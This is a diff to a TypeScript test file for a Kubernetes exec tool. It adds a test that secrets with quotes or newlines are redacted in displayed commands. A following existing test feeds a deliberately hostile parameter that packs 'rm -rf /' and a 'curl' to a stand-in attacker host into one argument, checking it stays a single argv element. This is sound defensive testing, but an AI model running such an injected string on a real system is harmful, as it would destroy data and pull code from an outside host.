@@ -153,6 +153,19 @@ describe('k8s.exec against the fake API server', () => {
     expect(exec.calls).toEqual([]);
   });
 
+  it("redacts a secret in the argv though quoting it for display changes its text (a ' or a newline)", async () => {
+    const secrets = ["pa'ss-w0rd-42", 'line-one-secret\nline-two'];
+    const redactor = new Redactor(secrets);
+    const ctx = testContext({
+      params: { surface: secrets.join(' ') },
+      kubernetes: () => targets.target('bentham'),
+      redact: (text) => redactor.redact(text),
+    });
+    const plan = await k8sExecKind.plan(DISABLE, ctx);
+    expect(plan.table?.rows[0]?.[4]).toBe("pnpm admin:surface disable '[redacted] [redacted]'");
+    expect(plan.summary).toContain("`pnpm admin:surface disable '[redacted] [redacted]'`");
+  });
+
   it('passes a param with spaces, quotes, ;, $(…) and newlines as one argv element, over the exec WebSocket', async () => {
     const nasty = `openai-api; rm -rf / $(curl https://evil.example) "double" 'single' \`tick\`\nsecond line`;
     const recorded = recorder();
